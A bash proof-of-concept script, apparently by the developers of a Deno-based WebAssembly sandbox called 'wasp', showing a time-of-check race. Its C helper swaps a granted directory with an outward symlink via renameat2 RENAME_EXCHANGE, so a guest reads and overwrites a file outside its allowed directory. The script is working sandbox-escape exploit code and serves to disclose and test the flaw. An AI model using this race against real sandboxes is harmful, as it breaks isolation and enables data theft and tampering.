#!/usr/bin/env bash
# The race-free file layer pins a directory with chdir and then acts on single names relative
# to it. Under SCOPED Deno permissions (every walled child and pool Worker), Deno resolves a
# relative path against the working directory's *path string* and performs the syscall on the
# resulting absolute path, so a concurrent rename of any ancestor sends the "pinned" operation
# through the swapped path. Step 1 shows it in plain Deno; steps 2-4 through wasp with a host
# renamer (renameat2 RENAME_EXCHANGE of a granted subdirectory with a symlink leading out):
#   kernel wall off (walls 1+2 alone):  guest READS and WRITES the outside file
#   kernel wall on (Landlock):          guest stat() returns the outside file's size/inode
set -euo pipefail
WASP=${WASP:-$(cd "$(dirname "$0")/.." && pwd)/main.ts}
SECS=${SECS:-40}
LAB=$(mktemp -d /tmp/wasp-relrace.XXXXXX); cd "$LAB"
reset() { rm -rf ws outside; mkdir -p ws/d/sub outside/sub; echo inside > ws/d/sub/f.txt
          echo TOP-SECRET > outside/sub/f.txt; ln -s ../outside ws/link; }
cat > swapper.c <<'C'
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>
int main(int c,char**v){time_t end=time(0)+atoi(v[3]);long n=0;
 while(time(0)<end){syscall(SYS_renameat2,AT_FDCWD,v[1],AT_FDCWD,v[2],RENAME_EXCHANGE);n++;}
 if(n%2)syscall(SYS_renameat2,AT_FDCWD,v[1],AT_FDCWD,v[2],RENAME_EXCHANGE);return 0;}
C
gcc -O2 swapper.c -o swapper
cat > guest.c <<'C'
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/stat.h>
int main(int argc,char**argv){int n=atoi(argv[1]),leak=0,meta=0,wrote=0;char b[64];
 for(int i=0;i<n;i++){
  int fd=open("/w/d/sub/f.txt",O_RDONLY);
  if(fd>=0){int r=read(fd,b,63);b[r>0?r:0]=0;close(fd);if(strstr(b,"SECRET")){if(!leak)printf("LEAK read: %s",b);leak++;}}
  struct stat st; if(stat("/w/d/sub/f.txt",&st)==0&&st.st_size==11){if(!meta)printf("META outside size=%lld ino=%llu\n",(long long)st.st_size,(unsigned long long)st.st_ino);meta++;}
  if(argc>2){fd=open("/w/d/sub/f.txt",O_WRONLY);if(fd>=0){write(fd,"GUEST-WROTE-X",13);close(fd);wrote++;}}
 }
 printf("iterations=%d leak=%d meta=%d\n",n,leak,meta);return 0;}
C
clang --target=wasm32-wasi -O2 guest.c -o guest.wasm
cat > rel.ts <<'TS'
Deno.chdir("ws/d/sub");
const sw = new Deno.Command("../../../swapper", { args: ["../../d", "../../link", "4"] }).spawn();
let outside = 0, n = 0; const end = Date.now() + 3500;
while (Date.now() < end) { n++; try { if (Deno.readTextFileSync("f.txt").includes("SECRET")) outside++; } catch { /**/ } }
await sw.status; console.log(`  relative reads from a chdir'ed, unmoved directory: ${n}, got the outside file: ${outside}`);
TS
echo "1. plain Deno, relative readTextFileSync after chdir (no wasp):"
reset; echo -n "  -A:"; deno run -A rel.ts
reset; echo -n "  --allow-read=$LAB:"; deno run --allow-read="$LAB" --allow-run="$LAB/swapper" rel.ts
echo "2. wasp run (process wall), WASP_KERNEL_WALL=off:"
reset; ./swapper "$LAB/ws/d" "$LAB/ws/link" "$SECS" & sleep 0.2
WASP_KERNEL_WALL=off deno run -A "$WASP" run guest.wasm --allow-dir "$LAB/ws::/w" --timeout 60000 -- 8000 write |
  python3 -c 'import json,sys;e=json.loads(sys.stdin.read());print("  ",e["stdout"].replace("\n"," | "),e["policy"]["walls"])'
wait; echo "   outside file afterwards: $(cat outside/sub/f.txt)"
echo "3. wasp serve (pool), WASP_KERNEL_WALL=off:"
reset; ./swapper "$LAB/ws/d" "$LAB/ws/link" "$SECS" & sleep 0.2
echo "{\"id\":1,\"kind\":\"wasm-run\",\"module\":\"$LAB/guest.wasm\",\"args\":[\"8000\"],\"allow_dirs\":[{\"path\":\"$LAB/ws\",\"guest\":\"/w\"}]}" |
  WASP_KERNEL_WALL=off deno run -A "$WASP" serve --allow-dir "ws=$LAB/ws" --module-dir "$LAB" |
  python3 -c 'import json,sys;e=json.loads(sys.stdin.read());print("  ",e["stdout"].replace("\n"," | "),e["policy"]["walls"])'
wait
echo "4. wasp serve (pool), kernel wall on:"
reset; ./swapper "$LAB/ws/d" "$LAB/ws/link" "$SECS" & sleep 0.2
echo "{\"id\":1,\"kind\":\"wasm-run\",\"module\":\"$LAB/guest.wasm\",\"args\":[\"8000\"],\"allow_dirs\":[{\"path\":\"$LAB/ws\",\"guest\":\"/w\"}]}" |
  deno run -A "$WASP" serve --allow-dir "ws=$LAB/ws" --module-dir "$LAB" |
  python3 -c 'import json,sys;e=json.loads(sys.stdin.read());print("  ",e["stdout"].replace("\n"," | "),e["policy"]["walls"])'
wait; echo "   outside inode: $(stat -c %i outside/sub/f.txt)"
cd /; rm -rf "$LAB"
